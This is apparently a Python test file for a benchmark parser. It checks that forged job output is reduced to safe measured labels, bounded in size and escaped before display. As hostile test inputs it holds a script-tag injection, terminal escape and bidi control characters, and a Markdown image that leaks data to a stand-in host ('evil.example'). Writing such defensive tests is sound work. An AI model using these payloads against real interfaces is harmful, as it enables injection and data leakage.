"""Output of benchmarks from nodes on which customers' jobs run: garbage, huge or deceiving text."""

from __future__ import annotations

from pathlib import Path

import pytest

from deepgrid.benchmark import measuring
from deepgrid.benchmark.labels import is_measured, normalise
from deepgrid.benchmark.outcome import PROBLEM_CHARACTERS, Outcome
from deepgrid.benchmark.settings import BenchmarkSettings
from deepgrid.errors import SlurmError
from deepgrid.provider.benchmark_archive import MOST_OUTPUT_CHARACTERS, BenchmarkArchive
from tasks.benchmark_artifacts import escape_markdown

USUAL = BenchmarkSettings()
RATES = "network.p2p.bw.mbps 50\nnetwork.p2p.latency.us 20\nnetwork.all-to-all.latency.us 30\n"
FORGED = (
    "benchmark.degraded no\n",
    "network.benchmark=osu\nnetwork.remark none\n",
    "deepgrid-version mpirun 1 | <script>alert(1)</script>\n",
    "# OSU MPI Latency Test v7.4\n1 \x1b[31m0.01\n",
    "name cheap\nnetwork.price.cpu 0\n" * 1000,
    "network.p2p.bw.mbps 1e400\nnetwork.p2p.bw.mbps -5\nnetwork.p2p.bw.mbps nan\n" * 1000,
)


@pytest.mark.attack(
    "a job that writes into the output of a benchmark on its node", attacker="a customer",
    gain="nothing: only measured labels of plain text, with positive figures", defence="known keys, bounded patterns",
)  # fmt: skip
@pytest.mark.parametrize("forged", FORGED)
def test_output_makes_plain_measured_labels_only(forged: str) -> None:
    outcome = measuring.read("network", RATES + forged, USUAL)
    assert {label.key for label in outcome.labels} == {
        "network.p2p.bw.mbps",
        "network.p2p.latency.us",
        "network.all-to-all.latency.us",
        "network.benchmark",
    }
    assert all(is_measured(label.key) and label.value == normalise(label.value) for label in outcome.labels)
    assert not any("<" in text or "|" in text for text in outcome.evidence.parameters.values())


@pytest.mark.attack(
    "an endless or unprintable output of a benchmark", attacker="a customer",
    gain="nothing: the kept output is bounded and steers no terminal", defence="a limit, no control characters",
)  # fmt: skip
def test_kept_output_is_bounded_and_harmless(tmp_path: Path) -> None:
    huge = RATES + "\x1b]0;owned\x07\u202e" + "x" * 2 * MOST_OUTPUT_CHARACTERS
    archive = BenchmarkArchive(tmp_path)
    (one, *_) = archive.keep(measuring.read("network", huge, USUAL), at=1_795_000_000)
    kept = archive.output(one.output)
    assert len(kept) < MOST_OUTPUT_CHARACTERS + 100
    assert not any(c in kept for c in "\x1b\x07\u202e")


@pytest.mark.attack(
    "the error of a benchmark with Markdown or HTML", attacker="a customer",
    gain="nothing: the Prefect UI shows it as text, in one line", defence="all that means something is escaped",
)  # fmt: skip
def test_an_error_is_text_in_the_table_of_a_run() -> None:
    evil = "deepgrid-volume scratch\n![x](http://evil.example/?leak) <img src=x> `id` | # | " + "y" * 10_000
    with pytest.raises(SlurmError) as caught:
        measuring.read("storage", evil, USUAL)
    words = Outcome("storage", problem=caught.value.message).words()
    assert len(words) < PROBLEM_CHARACTERS + 100 and "\n" not in words
    shown = escape_markdown(words)
    assert "](" not in shown.replace("\\]", "") and "\\<img" in shown and "\\!\\[x" in shown
